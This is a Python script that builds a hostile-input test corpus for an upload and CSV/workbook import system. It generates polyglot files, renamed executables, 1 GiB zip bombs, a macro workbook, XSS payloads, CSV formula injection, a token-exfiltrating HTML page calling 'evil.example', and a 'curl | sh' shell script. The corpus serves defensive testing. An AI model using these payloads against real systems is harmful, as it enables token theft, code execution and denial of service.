"""Regenerate the hostile input corpus in `files/` (run: .venv/bin/python make_corpus.py).

Every file is built here from literal bytes, the standard library and openpyxl, with fixed
timestamps, so running the script twice writes the same bytes and a reviewer can read how
each attack was built. `manifest.yaml` says which entry point each file is thrown at and
what must happen. Cases generated at test time (the oversized files) are not written here.
"""

from __future__ import annotations

import bz2
import functools
import io
import re
import struct
import sys
import zipfile
import zlib
from pathlib import Path

from openpyxl import Workbook

FILES = Path(__file__).resolve().parent / "files"
FIXED_TIME = (1980, 1, 1, 0, 0, 0)
MIB = 1024 * 1024
GIB = 1024 * MIB

# -- plain files ---------------------------------------------------------------------------


def pdf() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n"
        b"2 0 obj <</Type /Pages /Kids [] /Count 0>> endobj\n"
        b"trailer <</Root 1 0 R>>\n%%EOF\n"
    )


def jpeg() -> bytes:
    app0 = b"\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    return b"\xff\xd8" + app0 + b"\x00" * 64 + b"\xff\xd9"


def elf() -> bytes:
    """A 64-bit little-endian ELF header (x86-64 executable), then padding."""
    ident = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8
    header = struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x401000, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    return ident + header + b"\x00" * 192


def windows_exe() -> bytes:
    """An MZ stub whose e_lfanew points at a PE signature and a COFF header, then padding."""
    mz = bytearray(64)
    mz[0:2] = b"MZ"
    struct.pack_into("<I", mz, 0x3C, 64)
    coff = struct.pack("<HHIIIHH", 0x14C, 1, 0, 0, 0, 0xE0, 0x0102)
    return bytes(mz) + b"PE\x00\x00" + coff + b"\x00" * 256


def gif_js_polyglot() -> bytes:
    """Valid as a GIF header and as JavaScript: `GIF89a=...;alert(...)` runs if sniffed."""
    return b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=1;alert(document.domain);//" + b"\x00;" * 8


def html_page() -> bytes:
    return (
        b"<!DOCTYPE html><html><head><title>Bao cao</title></head><body>"
        b"<script>fetch('/api/tokens/').then(r=>r.text()).then(t=>new Image().src="
        b"'https://evil.example/?'+encodeURIComponent(t))</script></body></html>\n"
    )


def svg_script() -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)">'
        b"<script>alert(document.cookie)</script><rect width='10' height='10'/></svg>\n"
    )


def shell_script() -> bytes:
    return b"#!/bin/sh\ncurl -s https://evil.example/x | sh\n"


# -- ZIP containers ------------------------------------------------------------------------


def zip_of(entries: list[tuple[str, bytes, int]]) -> bytes:
    """A ZIP whose entries all carry the same fixed time: the bytes never change."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        for name, data, method in entries:
            info = zipfile.ZipInfo(name, date_time=FIXED_TIME)
            info.compress_type = method
            info.external_attr = 0o644 << 16
            zf.writestr(info, data, compresslevel=9 if method != zipfile.ZIP_STORED else None)
    return out.getvalue()


def repacked(data: bytes) -> bytes:
    """A copy of a ZIP (openpyxl's output) with fixed entry and document times, so the
    bytes do not depend on when the script ran."""
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        entries = [(i.filename, source.read(i), zipfile.ZIP_DEFLATED) for i in source.infolist()]
    stamp = rb"(<dcterms:(?:created|modified)[^>]*>)[^<]*"
    entries = [
        (name, re.sub(stamp, rb"\g<1>2023-12-01T00:00:00Z", body), method)
        if name == "docProps/core.xml"
        else (name, body, method)
        for name, body, method in entries
    ]
    return zip_of(entries)


DOCX_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
    b'package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
    b'officedocument.wordprocessingml.document.main+xml"/></Types>'
)
DOCX_BODY = (
    b'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats'
    b'.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Ke hoach</w:t></w:r></w:p>'
    b"</w:body></w:document>"
)
XLSX_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
    b'package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
    b'officedocument.spreadsheetml.sheet.main+xml"/></Types>'
)
XLSM_TYPES = XLSX_TYPES.replace(
    b"spreadsheetml.sheet.main+xml", b"spreadsheetml.sheet.macroEnabled.main+xml"
).replace(b"openxmlformats-officedocument.spreadsheetml.sheet.macro", b"ms-excel.sheet.macro")
XLSX_WORKBOOK = (
    b'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/'
    b'spreadsheetml/2006/main"><sheets/></workbook>'
)


def docx_parts() -> list[tuple[str, bytes, int]]:
    return [
        ("[Content_Types].xml", DOCX_TYPES, zipfile.ZIP_DEFLATED),
        ("word/document.xml", DOCX_BODY, zipfile.ZIP_DEFLATED),
    ]


def xlsx_parts(types: bytes = XLSX_TYPES) -> list[tuple[str, bytes, int]]:
    return [
        ("[Content_Types].xml", types, zipfile.ZIP_DEFLATED),
        ("xl/workbook.xml", XLSX_WORKBOOK, zipfile.ZIP_DEFLATED),
    ]


def bzip2_zeros(size: int) -> bytes:
    """`size` zero bytes compressed with bzip2, fed in chunks (1 GiB → under 1 KB)."""
    compressor, chunk, out = bz2.BZ2Compressor(9), bytes(MIB), []
    for _ in range(size // MIB):
        out.append(compressor.compress(chunk))
    out.append(compressor.flush())
    return b"".join(out)


def zip_with_raw_member(parts, name: str, raw: bytes, size: int, crc: int, method: int) -> bytes:
    """A ZIP holding `parts` plus one member whose compressed bytes are given as they are:
    zipfile cannot stream 1 GiB through bzip2 quickly, but it can copy compressed data."""
    out = io.BytesIO(zip_of(parts))
    with zipfile.ZipFile(out, "a") as zf:
        info = zipfile.ZipInfo(name, date_time=FIXED_TIME)
        info.compress_type = method
        info.external_attr = 0o644 << 16
        info.file_size, info.compress_size, info.CRC = size, len(raw), crc
        zf.fp.seek(zf.start_dir)
        info.header_offset = zf.fp.tell()
        zf.fp.write(info.FileHeader(zip64=False))
        zf.fp.write(raw)
        zf.start_dir = zf.fp.tell()
        zf.filelist.append(info)
        zf.NameToInfo[name] = info
        zf._didModify = True
    return out.getvalue()


def zeros_crc(size: int) -> int:
    crc, chunk = 0, bytes(MIB)
    for _ in range(size // MIB):
        crc = zlib.crc32(chunk, crc)
    return crc


@functools.cache
def gib_of_zeros() -> tuple[bytes, int]:
    """1 GiB of zeros: bzip2-compressed (under 1 KB) and its CRC-32. Takes ~10 s, once."""
    return bzip2_zeros(GIB), zeros_crc(GIB)


def gib_bomb(parts, name: str) -> bytes:
    """`parts` plus a member that inflates to 1 GiB of zeros from under 1 KB (bzip2)."""
    raw, crc = gib_of_zeros()
    return zip_with_raw_member(parts, name, raw, GIB, crc, zipfile.ZIP_BZIP2)


def ratio_bomb_docx() -> bytes:
    """A DOCX with a 16 MiB "image" of zeros deflated to about 16 KB (ratio ~1000:1)."""
    return zip_of([*docx_parts(), ("word/media/image1.png", bytes(16 * MIB), zipfile.ZIP_DEFLATED)])


def nested_zip_docx() -> bytes:
    """A DOCX carrying, stored as is, a ZIP that itself holds a 1 GiB bomb."""
    inner = gib_bomb([("readme.txt", b"mo tep ben trong", zipfile.ZIP_DEFLATED)], "data.bin")
    return zip_of([*docx_parts(), ("word/embeddings/archive.zip", inner, zipfile.ZIP_STORED)])


def macro_xlsx() -> bytes:
    """An .xlsm (macro-enabled workbook with a VBA project) renamed .xlsx."""
    vba = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + b'Attribute VB_Name = "Auto_Open"'
    return zip_of([*xlsx_parts(XLSM_TYPES), ("xl/vbaProject.bin", vba, zipfile.ZIP_DEFLATED)])


def pdf_zip_polyglot() -> bytes:
    """A valid PDF followed by a ZIP (a JAR/JS dropper): opens as either."""
    payload = zip_of([("payload.js", b"WScript.Shell.Run('calc')", zipfile.ZIP_DEFLATED)])
    return pdf() + payload


# -- workbooks -----------------------------------------------------------------------------


def saved(workbook: Workbook) -> bytes:
    out = io.BytesIO()
    workbook.save(out)
    return repacked(out.getvalue())


def fixed_workbook() -> Workbook:
    workbook = Workbook()
    workbook.properties.creator = "corpus"
    return workbook


def thidua_meta(workbook: Workbook, unit_code: str, unit_name: str) -> None:
    meta = workbook.create_sheet("_thidua")
    meta.sheet_state = "veryHidden"
    items = {
        "format": "thidua-self-assessment/1",
        "unit_code": unit_code,
        "unit_name": unit_name,
        "period_code": "2023",
        "period_name": "Năm 2023",
        "level": "xa",
        "revisions": "{}",
    }
    for row, (key, value) in enumerate(items.items(), start=1):
        meta.cell(row, 1, key)
        meta.cell(row, 2, value)


def workbook_missing_sheet() -> bytes:
    """Phường 5's identity sheet, but the "Tự đánh giá" sheet was deleted."""
    workbook = fixed_workbook()
    workbook.active.title = "Sheet1"
    thidua_meta(workbook, "31498", "Phường 5")
    return saved(workbook)


def workbook_other_unit() -> bytes:
    """A self-assessment workbook of Phường 7 (31501) uploaded to Phường 5."""
    workbook = fixed_workbook()
    workbook.active.title = "Tự đánh giá"
    thidua_meta(workbook, "31501", "Phường 7")
    return saved(workbook)


def source_xlsx(rate_cell) -> bytes:
    workbook = fixed_workbook()
    sheet = workbook.active
    sheet.append(["Mã đơn vị", "Mã tiêu chí", "Tỷ lệ", "Nguồn"])
    sheet.append(["31498", "X03", rate_cell, "Cổng DVC tỉnh"])
    return saved(workbook)


def truncated_xlsx() -> bytes:
    data = source_xlsx(90)
    return data[: len(data) // 2]


# -- CSV -----------------------------------------------------------------------------------

SOURCE_HEADER = "Mã đơn vị,Mã tiêu chí,Tỷ lệ,Nguồn\n"
UNITS_HEADER = "code,name,level,kind,parent_code\n"


def utf8(text: str) -> bytes:
    return text.encode("utf-8")


CASES = {
    # evidence uploads
    "valid.pdf": pdf,
    "empty.pdf": lambda: b"",
    "gif_js_polyglot.pdf": gif_js_polyglot,
    "pdf_zip_polyglot.pdf": pdf_zip_polyglot,
    "jpeg_html_polyglot.jpg": lambda: jpeg() + html_page(),
    "elf_renamed.pdf": elf,
    "exe_renamed.docx": windows_exe,
    "shell_renamed.pdf": shell_script,
    "zipbomb_ratio.docx": ratio_bomb_docx,
    "zipbomb_1gib.docx": lambda: gib_bomb(docx_parts(), "word/media/image1.png"),
    "zipbomb_1gib.xlsx": lambda: gib_bomb(xlsx_parts(), "xl/worksheets/sheet1.xml"),
    "nested_zip.docx": nested_zip_docx,
    "xlsm_renamed.xlsx": macro_xlsx,
    "script.svg": svg_script,
    "page.html": html_page,
    "html_renamed.pdf": html_page,
    # self-assessment and source workbooks
    "not_a_zip.xlsx": lambda: utf8("Mã đơn vị,Tỷ lệ\n31498,90\n"),
    "truncated.xlsx": truncated_xlsx,
    "workbook_missing_sheet.xlsx": workbook_missing_sheet,
    "workbook_other_unit.xlsx": workbook_other_unit,
    "source_formula.xlsx": lambda: source_xlsx('=HYPERLINK("https://evil.example",90)'),
    "zip_without_workbook.xlsx": lambda: zip_of([("readme.txt", b"xin chao", zipfile.ZIP_STORED)]),
    # source-data CSV
    # Excel's "Unicode Text" save: UTF-16 with a byte-order mark.
    "source_utf16.csv": lambda: (SOURCE_HEADER + "31498,X03,90,Cổng DVC tỉnh\n").encode("utf-16"),
    "source_ragged.csv": lambda: utf8(SOURCE_HEADER + "31498,X03,90,5,Cổng DVC tỉnh,thừa\n"),
    "source_no_header.csv": lambda: utf8("31498,X03,90,Cổng DVC tỉnh\n31501,X03,80,Cổng DVC\n"),
    "source_huge_field.csv": lambda: utf8(SOURCE_HEADER + f"31498,X03,90,{'A' * 5000}\n"),
    "source_formula.csv": lambda: utf8(
        SOURCE_HEADER + '31498,X03,"=HYPERLINK(""https://evil.example"",90)",Cổng DVC\n'
        "\"=cmd|' /C calc'!A0\",X03,90,Cổng DVC\n"
    ),
    "source_nul.csv": lambda: utf8(SOURCE_HEADER + "314\x0098,X03,90,Cổng DVC tỉnh\n"),
    # units CSV
    "units_xss_name.csv": lambda: utf8(
        UNITS_HEADER + "31498,<script>alert(1)</script><img src=x onerror=alert(2)>,commune,"
        "phuong,941\n"
    ),
    "units_control_chars.csv": lambda: utf8(
        UNITS_HEADER + "31498,Phường\x00 5\x1b[2J\u202egnưohp,commune,phuong,941\n"
    ),
    "units_overlong_name.csv": lambda: utf8(
        UNITS_HEADER + f"31498,Phường {'5' * 300},commune,phuong,941\n"
    ),
    "units_ragged.csv": lambda: utf8(UNITS_HEADER + "31498,Phường 5,commune,phuong,941,thừa\n"),
    "units_no_header.csv": lambda: utf8("31498,Phường 5,commune,phuong,941\n"),
}


def main(target: Path = FILES) -> None:
    target.mkdir(exist_ok=True)
    for name, make in CASES.items():
        (target / name).write_bytes(make())
        print(f"{name}: {(target / name).stat().st_size} bytes")


if __name__ == "__main__":
    main(Path(sys.argv[1]) if len(sys.argv) > 1 else FILES)
